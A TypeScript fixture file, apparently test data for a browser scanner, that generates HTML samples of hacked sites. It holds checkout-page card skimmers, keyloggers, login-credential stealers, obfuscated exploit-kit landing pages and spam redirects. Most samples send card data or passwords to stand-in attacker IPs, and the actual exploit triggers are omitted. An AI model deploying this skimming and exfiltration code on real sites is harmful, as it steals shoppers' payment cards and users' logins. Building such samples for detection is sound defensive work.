/** Broken-into sites: skimmers, exploit kits, spam, and what records keys. The exploits themselves are left out. */
import type { Builders, Saved } from '../browser-report.ts';
import {
  base64,
  blob,
  charCodes,
  dice,
  escaped,
  hexDigits,
  hexString,
  junk,
  letters,
  packed,
  rc4Array,
  sixCharacters,
  stringArray,
} from '../obfuscation.ts';
import * as v from '../vendors.ts';

const till = (url: string, lang: string, title: string, script: string, head = '') =>
  [
    url,
    `<!DOCTYPE html><html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body class="checkout-onepage-index"><header><a href="/">Home</a><a href="/customer/account/login/">Login</a></header><form id="co-billing-form" action="/checkout/onepage/saveBilling/"><input name="billing[firstname]" id="billing:firstname"><input name="billing[lastname]" id="billing:lastname"><input name="billing[street][]" id="billing:street1"><input name="billing[postcode]" id="billing:postcode"></form><form id="co-payment-form" action=""><input name="payment[cc_number]" id="authorizenet_cc_number"><select name="payment[cc_exp_month]" id="authorizenet_expiration"></select><input name="payment[cc_cid]" id="authorizenet_cc_cid"></form><button onclick="review.save();">${title.split(' ')[0]}</button><a href="/returns">Returns</a>${script}</body></html>`,
  ] as Saved;
const gate = 'https://198.51.100.80/gate.php';
const grab = `var d={};document.querySelectorAll('input,select,textarea').forEach(function(e){if(e.value.length>0&&e.type!='hidden')d[e.name||e.id]=e.value});`;

const SKIMMERS: Saved[] = [
  till(
    'https://www.angelshop-weser.example/checkout/onepage/',
    'de',
    'Kasse Angelshop Weser',
    `<script type="text/javascript">${v.library('lodash/core.min.js')}\nvar $s={Number:"authorizenet_cc_number",CVV:"authorizenet_cc_cid",Gate:"${gate}",Data:{},Sent:[],SaveParam:function(e){if(e.value!==undefined&&e.value.length<256)$s.Data[e.id]=e.value},SendData:function(){var b=encodeURIComponent(btoa(JSON.stringify($s.Data)));if($s.Sent.indexOf(b)==-1){$s.Sent.push(b);var i=document.createElement("IMG");i.src=$s.Gate+"?image_id="+b}},TrySend:function(){document.querySelectorAll("input").forEach($s.SaveParam);if($s.Data[$s.Number]&&$s.Data[$s.CVV])$s.SendData()}};setInterval($s.TrySend,500);</script>`,
    v.gtag('G-44'),
  ),
  till(
    'https://parfum-lyon.example/checkout/',
    'fr',
    'Paiement Parfum Lyon',
    `<script>${stringArray(['checkout', 'href', 'indexOf', 'addEventListener', 'click', 'serialize', gate, 'POST'], 41, (g) => `if(location[${g(1)}][${g(2)}](${g(0)})>0x0){document['body'][${g(3)}](${g(4)},function(){jQuery['ajax']({'type':${g(7)},'url':${g(6)},'data':jQuery('form')[${g(5)}]()});},!![]);}`)}</script>`,
    v.gtm('GTM-FR1'),
  ),
  till(
    'https://www.merceria-lola.example/finalizar',
    'es',
    'Finalizar compra Mercería Lola',
    `<!-- Google Tag Manager --><script>(function(w,d,s,l,i){w[l]=w[l]||[];var u=atob('${base64('https://198.51.100.81/gtm.js')}');if(d.location.pathname.match(/finalizar|checkout|pago/)){var j=d.createElement(s);j.async=true;j.src=u+'?id='+i;d.head.appendChild(j)}})(window,document,'script','dataLayer','GTM-XXXX');</script><!-- End Google Tag Manager -->`,
    v.gtm('GTM-ES'),
  ),
  till(
    'https://wolle-shop.example/kasse/zahlung',
    'de',
    'Zahlung Wolle-Shop',
    `<script>setTimeout(function(){var h=document.querySelector('#co-payment-form');h.style.display='none';var f=document.createElement('div');f.innerHTML='<p>Kreditkarte</p><input id="cn" placeholder="Kartennummer"><input id="ce" placeholder="MM/JJ"><input id="cc" placeholder="CVC"><button id="cb">Bezahlen</button>';h.parentNode.insertBefore(f,h);document.getElementById('cb').onclick=function(){${grab}navigator.sendBeacon('${gate}',btoa(JSON.stringify(d)));f.remove();h.style.display='block';alert('Zahlung fehlgeschlagen, bitte erneut versuchen.')}},1500);</script>`,
  ),
  till(
    'https://shoes-online.example/onestepcheckout',
    'en',
    'Checkout Shoes Online',
    `<link rel="icon" href="/favicon.ico"><img src="/media/logo.png" onload="var t=this;fetch('/media/fav.ico').then(r=>r.arrayBuffer()).then(b=>{var e=new TextDecoder().decode(b).split('Copyright')[1];(new Function(atob(e)))()})" style="display:none"><script>window.onbeforeunload=function(){${grab}new Image().src='//198.51.100.82/pixel.gif?'+btoa(encodeURIComponent(JSON.stringify(d)))}</script>`,
  ),
  till(
    'https://caffe-napoli.example/cassa',
    'it',
    'Cassa Caffè Napoli',
    `<script>eval(String.fromCharCode(${charCodes(`document.addEventListener('change',function(e){localStorage.setItem('_ga_c',(localStorage.getItem('_ga_c')||'')+'|'+e.target.name+'='+e.target.value);if(/cc_cid/.test(e.target.name)){var w=new WebSocket('wss://198.51.100.83/ws');w.onopen=function(){w.send(localStorage.getItem('_ga_c'))}}})`)}))</script>`,
  ),
  till(
    'https://www.kwiaty-dostawa.example/zamowienie',
    'pl',
    'Zamówienie Kwiaty',
    `<script>${rc4Array(['onestepcheckout', 'cc_number', 'toString', 'https://198.51.100.84/analytics.php', 'onclick', 'btoa', 'XMLHttpRequest'], 15, (g) => `setInterval(function(){var _q=document['querySelectorAll']('input');var _w='';for(var i=0x0;i<_q['length'];i++){_w+=_q[i]['name']+'='+_q[i]['value']+'&';}if(_w['indexOf'](${g(1)})>0x0){var x=new window[${g(6)}]();x['open']('POST',${g(3)},!![]);x['send'](window[${g(5)}](_w));}},0x3e8);`)}</script>`,
    v.fbPixel('91'),
  ),
  till(
    'https://bike-parts.example/checkout/cart',
    'en',
    'Cart Bike Parts',
    `<iframe id="pay_frame" src="https://198.51.100.85/payment/stripe-elements.html?m=bike" width="100%" height="220" frameborder="0"></iframe><script>addEventListener('message',function(e){if(e.data.card){document.getElementById('authorizenet_cc_number').value=e.data.card;document.getElementById('pay_frame').remove()}});document.getElementById('co-payment-form').style.display='none'</script>`,
    `<script src="https://js.stripe.com/v3/"></script>`,
  ),
];

const KEYS: Saved[] = [
  [
    'http://webmail.small-isp.example/login',
    `<html><head><title>Webmail login</title></head><body><form action="/login" method="post"><input name="user"><input type="password" name="pass"></form><script>var keys='';document.onkeypress=function(e){keys+=String.fromCharCode(e.which);};setInterval(function(){if(keys){new Image().src='http://203.0.113.40/k.php?c='+encodeURIComponent(keys);keys='';}},1000);</script></body></html>`,
  ],
  [
    'https://forum.tuning-scene.example/login.php',
    `<html lang="de"><head><title>Tuning-Forum - Anmelden</title></head><body><form action="login.php?do=login" method="post" onsubmit="var i=new Image();i.src='//203.0.113.41/l.gif?u='+escape(this.u.value)+'&p='+escape(this.p.value);"><input name="u"><input type="password" name="p"><input type="submit"></form></body></html>`,
  ],
  [
    'https://intranet.gemeente-oost.example/wp-login.php',
    `<html lang="nl"><head><title>Inloggen ‹ Intranet — WordPress</title></head><body class="login"><form name="loginform" id="loginform" action="/wp-login.php" method="post"><input name="log"><input type="password" name="pwd"><input type="submit" name="wp-submit"></form><script>jQuery&&0;document.getElementById('loginform').addEventListener('submit',function(){fetch(atob('${base64('https://203.0.113.42/wp.php')}'),{method:'POST',mode:'no-cors',keepalive:true,body:new FormData(this)})});</script></body></html>`,
  ],
];

const probe = `var PluginDetect={getVersion:function(n){for(var i=0;i<navigator.plugins.length;i++){if(navigator.plugins[i].name.indexOf(n)>=0)return navigator.plugins[i].description.match(/[\\d.]+/)[0]}try{return new ActiveXObject(n=='Flash'?'ShockwaveFlash.ShockwaveFlash':'JavaWebStart.isInstalled').GetVariable('$version')}catch(e){return null}}};`;
const KITS: Saved[] = [
  [
    'http://ds.naturist-garden.example/?x3qJc7iaKhrFCYI=l3SKfPrfJxzFGMSUb-nJDa9BMEXCRQLPh4SGhKrXCJ',
    `<html><body><script>var oa="";\n${junk(11, 14)}\nvar fl='${base64('<object type="application/x-shockwave-flash" data="http://203.0.113.51/index.php?sid=9" allowScriptAccess=always width="10" height="10"></object>')}';var k="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=";function s(i){var o="",a,b,c,d,p=0;do{a=k.indexOf(i.charAt(p++));b=k.indexOf(i.charAt(p++));c=k.indexOf(i.charAt(p++));d=k.indexOf(i.charAt(p++));o+=String.fromCharCode(a<<2|b>>4,(b&15)<<4|c>>2,(c&3)<<6|d)}while(p<i.length);return o}document.write(s(fl));\n${junk(12, 9)}</script></body></html>`,
  ],
  [
    'http://knitting.silverlake-quilts.example/topic/13492-ease-supposed-knight/',
    `<html>\n<head>\n<title>${letters(5, 40, 'abcdefghij  ')}</title></head><body>\n${Array.from({ length: 12 }, (_, n) => `<p class="${letters(n, 8)}">She had not been at all surprised, ${letters(n + 80, 9)}, for Elinor was neither musical, nor affecting to be so; ${letters(n + 40, 60, 'abcdefgh  ')}</p>`).join('\n')}\n<div id="${letters(2, 6)}" style="position:absolute;left:-2000px">${charCodes(letters(88, 6000)).replaceAll(',', ' ')}</div><script>\nvar ${letters(3, 7)}=document.getElementById("${letters(2, 6)}").innerHTML.split(" "),zz="";for(var i=0;i<${letters(3, 7)}.length;i++){zz+=String.fromCharCode(parseInt(${letters(3, 7)}[i])^${dice(4)(90)})}\ntry{new ActiveXObject("Kaspersky.IeVirtualKeyboardPlugin.JavascriptApi");var av=1}catch(e){}\nif(!window.av)window["ev"+"al"](zz);\n</script></body></html>`,
  ],
  [
    'http://203.0.113.60/f5a0b6c4/',
    `<html><head><script>${probe}\nif(/MSIE (8|9|10)|Trident/.test(navigator.userAgent)){document.write('<iframe src="http://203.0.113.60/?'+PluginDetect.getVersion('Flash')+'" width="1" height="1" style="visibility:hidden"></iframe>')}</script></head><body></body></html>`,
  ],
  [
    'http://hk8d.compositor.example/',
    `<html><head><meta http-equiv="x-ua-compatible" content="IE=10"></head><body><script language="VBScript">\nDim aw(100)\nFunction ${letters(6, 9)}()\n  On Error Resume Next\n  ReDim Preserve aw(2)\n  ' the trigger is left out\nEnd Function\nSub ${letters(7, 8)}(s)\n Set w = CreateObject("WScript.Shell")\n w.Run "cmd /c echo inert", 0\nEnd Sub\n</script><script>var k="${hexString('wow64')}";var ua=navigator.userAgent;if(ua.indexOf("WOW64")>0){document.body.style.x=1}</script></body></html>`,
  ],
  [
    'http://adv.traff-exchange.example/go.php?sid=3',
    `<html><body><script>${rc4Array(['navigator', 'appVersion', 'Trident', 'createElement', 'iframe', 'http://198.51.100.91/flash/', 'GET', 'AES'], 61, (g) => `(function(){if(window[${g(0)}][${g(1)}]['indexOf'](${g(2)})>-0x1){var _f=document[${g(3)}](${g(4)});_f['width']=0x1;_f['height']=0x1;_f['src']=${g(5)}+new Date()['getTime']();document['body']['appendChild'](_f);}}());`)}</script><embed src="about:blank" width="1" height="1"></body></html>`,
  ],
  [
    'http://www.segelverein-nordsee.example/termine.html',
    `<html lang="de"><head><title>Termine - Segelverein Nordsee</title></head><body><script>/*f8a1*/${packed(`document.write('<div style="position:absolute;top:-1000px"><iframe src="http://203.0.113.52/in.cgi?4" width="2" height="2"></iframe></div>')`)};/*/f8a1*/</script><h1>Termine</h1><p>Ansegeln am 1. Mai, 10 Uhr, Steg B.</p><a href="verein.html">Verein</a></body></html>`,
  ],
  [
    'http://www.ristorante-daugo.example/',
    `<html lang="it"><head><title>Ristorante Da Ugo</title></head><body><h1>Menu</h1><p>Tagliatelle al ragù 9 €</p></body></html><script>if(document.cookie.indexOf("_mauthtoken")==-1){(function(a,b){if(a.indexOf("googlebot")==-1){if(/(android|iphone|windows)/i.test(a)){document.cookie="_mauthtoken=1; path=/;expires="+new Date(+new Date+1800000).toUTCString();window.location=b}}})(navigator.userAgent,'http://203.0.113.53/kt/?sub='+location.host)}</script>`,
  ],
  [
    'http://news-mirror.example/politics/',
    `<html><head><title>Politics today</title></head><body><p>Senate passes budget</p><script>try{document.body++}catch(gdsgd){v="v"+"al";if(020===0x10)w=window["e"+v];n="${charCodes(`document.write('<iframe src=http://198.51.100.92/q.php width=10 height=10 style=visibility:hidden;position:absolute;left:0;top:0;></iframe>')`).replaceAll(',', '$')}".split("$");s="";for(i=0;i-n.length<0;i++){s+=String.fromCharCode(1*n[i])}w(s)}</script></body></html>`,
  ],
  [
    'http://video-codec.example/watch?v=9',
    `<html><body><script>${probe}var j=PluginDetect.getVersion('Java');if(j)document.write('<applet archive="http://203.0.113.54/lib/x.jar" code="a.class" width="1" height="1"><param name="p" value="${hexDigits(8, 60)}"></applet>');if(PluginDetect.getVersion('Silverlight'))document.write('<object data="data:application/x-silverlight-2," type="application/x-silverlight-2" width="2" height="2"><param name="source" value="http://203.0.113.54/s.xap"></object>');setTimeout(function(){location.replace("about:blank")},9000)</script></body></html>`,
  ],
];

const SPAM: Saved[] = [
  [
    'https://www.musikschule-sued.example/?p=cheap-cialis-20mg',
    `<html lang="de"><head><title>Buy Cheap Cialis 20mg Online No Prescription – Musikschule Süd</title></head><body><h1>Musikschule Süd</h1><div style="position:absolute;left:-9999px;">${Array.from({ length: 40 }, (_, n) => `<a href="http://${letters(n, 7)}-rx.example/${letters(n + 9, 5)}.html">${['viagra', 'cialis', 'levitra', 'tramadol', 'casino bonus'][n % 5]} ${n}mg</a>`).join(' ')}</div><script>if(/google|bing|yahoo/i.test(document.referrer)){location.href='http://203.0.113.70/search/?q=cialis'}</script></body></html>`,
  ],
  [
    'https://blog.parroquia-sanjuan.example/2019/03/',
    `<html lang="es"><head><title>Parroquia San Juan</title><script type='text/javascript' src='https://js.donatelloflowfirstly.example/stat.js?n=ns1'></script></head><body><p>Horario de misas</p><script>String.fromCharCode(${charCodes(`var u="https://203.0.113.71/r?f=";if(!localStorage.getItem("hh")){localStorage.setItem("hh",1);document.location.href=u+location.host}`)});eval(String.fromCharCode(${charCodes('var u="https://203.0.113.71/r?f=";window.location.replace(u+location.host)')}));</script></body></html>`,
  ],
  [
    'https://handbags-outlet.example/ja/louis/',
    `<html lang="ja"><head><title>【新品】ルイヴィトン 激安 通販 スーパーコピー N級品</title><meta name="keywords" content="コピー,激安,送料無料"></head><body><h1>ルイヴィトン バッグ 80%OFF</h1><script>var s=document.referrer;if(s.indexOf("google")>0||s.indexOf("yahoo")>0){self.location="http://198.51.100.72/lv.html"}</script><div style="height:0;overflow:hidden">${letters(7, 3000, 'あいうえおかきくけこ激安通販財布 ')}</div></body></html>`,
  ],
  [
    'https://library.county.example/wp-content/uploads/free-v-bucks/',
    `<html><head><title>FREE V-BUCKS GENERATOR 2023 (No Human Verification)</title></head><body><h1>Generate 13,500 V-Bucks</h1><input id="u" placeholder="Epic username"><button onclick="gen()">GENERATE</button><pre id="log"></pre><script>function gen(){var l=['Connecting to Epic servers...','User found!','Injecting 13500 V-Bucks...','HUMAN VERIFICATION REQUIRED'],i=0;var t=setInterval(function(){document.getElementById('log').innerText+=l[i++]+'\\n';if(i==l.length){clearInterval(t);call_locker()}},900)}function call_locker(){window.location='https://203.0.113.73/cl/i/x'}</script></body></html>`,
  ],
  [
    'https://www.zahnarzt-kiel-nord.example/leistungen',
    `<html lang="de"><head><title>Leistungen</title></head><body><p>Prophylaxe, Implantate</p><script>;if(ndsw===undefined){var ndsw=true,HttpClient=function(){this.get=function(u,c){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4&&x.status==200)c(x.responseText)};x.open('GET',u,true);x.send(null)}},rand=function(){return Math.random().toString(36).substr(2)},token=function(){return rand()+rand()};(function(){var n=navigator,d=document,r=d.referrer,h=location.hostname;if(r&&r.indexOf(h)==-1&&!d.cookie){var c=new HttpClient();c.get('//203.0.113.74/sm.php?id='+token(),function(t){t.indexOf('ndsx')!==-1&&window.eval(t)})}})()};</script></body></html>`,
  ],
  [
    'https://cdn-node-7.example/a.html',
    `<html><head><script>${sixCharacters("location.href='//203.0.113.75/'")}</script></head><body>Redirecting…</body></html>`,
  ],
];
export const injections = {
  skimmer: () => SKIMMERS,
  keyLogger: () => KEYS,
  exploitKit: () => KITS,
  spam: () => [
    ...SPAM,
    [
      'http://wiki.verein-modellbau.example/Spezial',
      `<html lang="de"><head><title>Modellbau-Wiki</title></head><body><p>Epoche III</p><script src="data:text/javascript;base64,${base64("if(screen.width<800){top.location='http://203.0.113.76/m/?k='+Math.random()}")}"></script><span style="display:none">${escaped(blob(3, 40))}</span></body></html>`,
    ] as Saved,
  ],
} satisfies Builders;
